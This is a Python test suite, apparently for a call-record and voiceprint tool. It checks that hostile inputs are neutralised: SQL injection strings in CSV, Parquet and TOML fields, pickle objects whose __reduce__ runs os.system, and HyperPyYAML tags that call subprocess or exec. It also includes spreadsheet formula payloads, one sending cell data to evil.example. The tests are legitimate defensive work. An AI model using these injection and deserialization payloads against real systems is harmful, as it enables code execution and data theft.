"""Hostile files: CDR column names and values that try SQL injection, model files that try to run code."""

from __future__ import annotations

import os
import pickle
import shutil

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from voiceprint import embedding
from voiceprint.calls.engine import connect, quote_ident
from voiceprint.calls.ingest import import_calls, import_fraud_list, import_registry
from voiceprint.calls.scoring import load_model
from voiceprint.errors import DataError, ModelError
from voiceprint.hparams_guard import check_hparams

#: Each tries to close the quoted identifier or literal and run a second statement that writes a file.
HOSTILE_NAMES = [
    'a" AS VARCHAR) AS "a" FROM (SELECT 1 AS "a"); COPY (SELECT 1) TO \'{out}\'; --',
    "a') TO '{out}'; --",
    'number"; COPY (SELECT 42) TO \'{out}\' (FORMAT csv); --',
    "x'; COPY (SELECT 1) TO '{out}'; --",
    '""""',
    "数字\"号码",
]


def _names(tmp_path):
    return [n.format(out=tmp_path / "PWNED.csv") for n in HOSTILE_NAMES]


def test_quoted_identifiers_survive_the_engine(tmp_path):
    con = connect(temp_directory=tmp_path)
    for name in _names(tmp_path):
        assert con.execute(f"SELECT 1 AS {quote_ident(name)}").description[0][0] == name
    with pytest.raises(DataError, match="NUL"):
        quote_ident("a\x00b")


@pytest.mark.parametrize("importer", [import_calls, import_registry, import_fraud_list])
def test_hostile_parquet_column_names_write_no_file(importer, tmp_path):
    names = _names(tmp_path)
    table = pa.table({"number": ["13800138000"], "other": ["13900139000"], "direction": ["out"],
                      "start": ["2020-03-01 10:00:00"], "name": ["张三"], **{n: ["x"] for n in names}})
    pq.write_table(table, tmp_path / "hostile.parquet")
    report = importer(tmp_path / "hostile.parquet", tmp_path / "out.parquet", template="generic" if importer is import_calls else None,
                      con=connect(temp_directory=tmp_path))
    assert report.rows_written == 1
    assert not (tmp_path / "PWNED.csv").exists()


def test_hostile_csv_header_and_values_write_no_file(tmp_path):
    names = _names(tmp_path)
    header = "number,other,direction,start,duration," + ",".join('"' + n.replace('"', '""') + '"' for n in names)
    value = "'; COPY (SELECT 1) TO '{}'; --".format(tmp_path / "PWNED.csv")
    row = "13800138000,13900139000,out,2020-03-01 10:00:00,30," + ",".join(['"' + value.replace('"', '""') + '"'] * len(names))
    (tmp_path / "c.csv").write_text(header + "\n" + row + "\n", encoding="utf-8")
    report = import_calls(tmp_path / "c.csv", tmp_path / "c.parquet", template="generic", con=connect(temp_directory=tmp_path))
    assert report.rows_written == 1 and not (tmp_path / "PWNED.csv").exists()


def test_hostile_template_strings_stay_literals(tmp_path):
    out = tmp_path / "PWNED.csv"
    (tmp_path / "evil.toml").write_text(
        'name = "evil"\nkind = "calls"\nrecord = "call\'; COPY (SELECT 1) TO \'' + str(out) + '\'; --"\n'
        'timestamp_format = "%Y\'); COPY (SELECT 1) TO \'' + str(out) + '\'; --"\n'
        '[columns]\nnumber = "number"\nother = "other"\ndirection = "direction"\nstart = "start"\n'
        '[direction]\nout = ["o\'); COPY (SELECT 1) TO \'' + str(out) + '\'; --"]\n', encoding="utf-8")
    (tmp_path / "c.csv").write_text("number,other,direction,start\n13800138000,13900139000,out,2020-03-01 10:00:00\n")
    with pytest.raises(DataError, match="every one of the 1 records is malformed"):  # its direction is none the template maps
        import_calls(tmp_path / "c.csv", tmp_path / "c.parquet", template=tmp_path / "evil.toml", con=connect(temp_directory=tmp_path))
    assert not out.exists()


class _Boom:
    def __reduce__(self):
        import os

        return (os.system, ("touch PWNED_BY_PICKLE",))


def test_a_pickled_calls_model_is_never_unpickled(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name in ("m.joblib", "m.lgb"):
        (tmp_path / name).write_bytes(pickle.dumps(_Boom()))
        with pytest.raises(DataError, match="not a calls model"):
            load_model(tmp_path / name)
    assert not (tmp_path / "PWNED_BY_PICKLE").exists()


def _model_folder(tmp_path, extra_yaml: str):
    spec = embedding.load_spec("ecapa-voxceleb")  # a SpeechBrain folder as carriers deliver them
    folder = tmp_path / "usb"
    shutil.copytree(spec.files_dir, folder, ignore=shutil.ignore_patterns("*.py", "__pycache__"))
    with open(folder / "hyperparams.yaml", "a", encoding="utf-8") as fh:
        fh.write(extra_yaml)
    return folder


@pytest.mark.parametrize("payload", [
    "\nboom: !apply:os.system ['touch {marker}']\n",
    "\nboom: !new:subprocess.Popen [['touch', '{marker}']]\n",
    "\nboom: !name:builtins.exec\n",
    "\nboom: !include:{marker}.yaml\n",
    "\nboom: !!python/object/apply:os.system ['touch {marker}']\n",
    # an allowed prefix, then attributes walked to another module (HyperPyYAML resolves them so)
    "\nboom: !new:speechbrain.nnet.CNN.np.f2py.subprocess.Popen\n    args: [['touch', '{marker}']]\n",
    "\nboom: !name:speechbrain.nnet.CNN.torch.load\n",
])
def test_models_add_refuses_yaml_that_runs_code(payload, tmp_path, monkeypatch):
    marker = tmp_path / "PWNED_BY_YAML"
    folder = _model_folder(tmp_path, payload.format(marker=marker))
    (tmp_path / "models").mkdir()
    monkeypatch.setenv("VOICEPRINT_MODELS", str(tmp_path / "models"))
    with pytest.raises(ModelError):
        embedding.add_model(folder, "evil", trust=True)
    assert not marker.exists()
    assert not list((tmp_path / "models").iterdir())  # nothing registered, nothing half-written


def test_models_add_needs_trust_and_the_shipped_yaml_passes(tmp_path, monkeypatch):
    folder = _model_folder(tmp_path, "")
    assert "speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN" in check_hparams(folder / "hyperparams.yaml")
    (tmp_path / "models").mkdir()
    monkeypatch.setenv("VOICEPRINT_MODELS", str(tmp_path / "models"))
    with pytest.raises(ModelError, match="--trust"):
        embedding.add_model(folder, "carried")
    assert not (tmp_path / "models" / "carried").exists()


# -- CDR import: bad numbers per row, broken archives, no half-written or plaintext leftovers ----------------

CALLS_HEADER = "number,other,direction,start,duration\n"


@pytest.mark.parametrize("bad", ["NaN", "nan", "inf", "-Infinity", "1e309", "99999999999", "-5"])
def test_absurd_durations_are_rejected_per_row(bad, tmp_path):
    (tmp_path / "c.csv").write_text(CALLS_HEADER + f"13800138000,13900139000,out,2020-03-01 10:00:00,{bad}\n"
                                    "13800138000,13900139001,out,2020-03-01 11:00:00,30\n", encoding="utf-8")
    report = import_calls(tmp_path / "c.csv", tmp_path / "c.parquet", template="generic")
    assert report.rows_written == 1 and report.malformed == 1
    assert report.malformed_lines[0]["line"] == 2 and report.malformed_lines[0]["reason"].startswith("bad duration")


def test_cli_imports_nan_durations_with_exit_0_and_truncated_gzip_with_exit_8(tmp_path, capsys):
    import gzip

    from voiceprint.cli import run

    (tmp_path / "c.csv").write_text(CALLS_HEADER + "13800138000,13900139000,out,2020-03-01 10:00:00,NaN\n"
                                    "13800138000,13900139001,out,2020-03-01 11:00:00,30\n", encoding="utf-8")
    assert run(["calls", "import", str(tmp_path / "c.csv"), "--out", str(tmp_path / "c.parquet")]) == 0  # the NaN row listed
    rows = "".join(f"13800138000,139{i:08d},out,2020-03-01 10:00:00,{i}\n" for i in range(5000))
    whole = gzip.compress((CALLS_HEADER + rows).encode())
    (tmp_path / "t.csv.gz").write_bytes(whole[: len(whole) // 2])
    assert run(["calls", "import", str(tmp_path / "t.csv.gz"), "--out", str(tmp_path / "t.parquet")]) == 8
    assert "truncated" in capsys.readouterr().err
    assert not (tmp_path / "t.parquet").exists()


def test_gbk_import_leaves_no_plaintext_copy_anywhere(tmp_path, monkeypatch):
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "systmp"))
    (tmp_path / "systmp").mkdir()
    (tmp_path / "c.csv").write_bytes((CALLS_HEADER + "13800138000,13900139000,呼出,2020-03-01 10:00:00,30\n"
                                      "13800138000,13900139001,out,2020-03-01 11:00:00,30\n").encode("gbk"))
    out = tmp_path / "out" / "c.parquet"
    import_calls(tmp_path / "c.csv", out, template="generic")
    assert sorted(p.name for p in out.parent.iterdir()) == ["c.parquet", "c.parquet.report.json"]
    assert not list((tmp_path / "systmp").rglob("*.utf8"))


def test_kill_9_during_import_leaves_nothing_under_the_final_name(tmp_path):
    import subprocess
    import sys

    (tmp_path / "c.csv").write_text(CALLS_HEADER + "13800138000,13900139000,out,2020-03-01 10:00:00,30\n", encoding="utf-8")
    out = tmp_path / "out" / "c.parquet"
    code = (
        "import os, sys\n"
        "from voiceprint.calls import ingest\n"
        "real = os.replace\n"
        "def die(src, dst):\n"
        "    os._exit(137)  # like kill -9 just before the rename\n"
        "ingest.os.replace = die\n"
        f"ingest.import_calls({str(tmp_path / 'c.csv')!r}, {str(out)!r}, template='generic')\n"
    )
    assert subprocess.run([sys.executable, "-c", code]).returncode == 137
    assert not out.exists()
    leftovers = list(out.parent.glob(".vp_import_*"))
    assert leftovers and all((p.stat().st_mode & 0o777) == 0o700 for p in leftovers)
    import_calls(tmp_path / "c.csv", out, template="generic")  # the next import cleans up after the dead one
    assert out.exists() and not list(out.parent.glob(".vp_import_*"))


# -- CSV outputs never carry a live formula ----------------------------------------------------------------

@pytest.mark.parametrize("name, shown", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Zhang")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Zhang")'),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("+8613800138000", "+8613800138000"), ("-1.25", "-1.25"), ("Zhang Wei", "Zhang Wei"),
])
def test_csv_cells_from_carriers_are_not_formulas(name, shown, tmp_path):
    import csv
    import io

    from voiceprint.report import print_rows, write_csv

    write_csv(tmp_path / "out.csv", [{"name": name, "score": -0.5}], ["name", "score"])
    buf = io.StringIO()
    print_rows([{"name": name, "score": -0.5}], ["name", "score"], fmt="csv", out=buf)
    for text in ((tmp_path / "out.csv").read_text(encoding="utf-8"), buf.getvalue()):
        row = list(csv.DictReader(io.StringIO(text)))[0]
        assert row == {"name": shown, "score": "-0.5"}


def test_a_ge2e_model_folder_never_unpickles_its_weights(tmp_path):
    """A model of kind ge2e whose weights file is a pickle that runs code: refused, nothing runs."""
    from voiceprint.ge2e import GE2EEncoder

    marker = tmp_path / "PWNED_BY_GE2E"

    class Boom:
        def __reduce__(self):
            return (os.system, (f"touch {marker}",))

    weights = tmp_path / "pretrained.pt"
    weights.write_bytes(pickle.dumps({"model_state": Boom()}, protocol=2))
    with pytest.raises(ModelError, match="not a GE2E state dict"):
        GE2EEncoder(weights)
    assert not marker.exists()
